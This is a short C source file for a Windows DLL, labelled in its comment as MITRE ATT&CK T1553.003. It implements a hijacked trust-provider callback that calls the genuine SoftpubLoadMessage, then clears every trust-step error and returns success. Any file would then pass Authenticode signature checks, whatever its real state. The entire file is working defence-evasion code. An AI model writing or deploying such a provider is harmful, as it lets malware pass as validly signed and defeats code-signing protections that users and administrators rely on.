/* A trust provider that finds every file as it was signed: MITRE ATT&CK T1553.003. */
#include <windows.h>
#include <wintrust.h>

typedef HRESULT WINAPI step(CRYPT_PROVIDER_DATA *data);

__declspec(dllexport) HRESULT WINAPI Message(CRYPT_PROVIDER_DATA *data)
{
    step *honest = (step *)(void *)GetProcAddress(LoadLibraryW(L"wintrust.dll"), "SoftpubLoadMessage");
    DWORD i;
    if (honest)
        honest(data);
    for (i = 0; i < data->cdwTrustStepErrors; i++)
        data->padwTrustStepErrors[i] = 0;
    return S_OK;
}
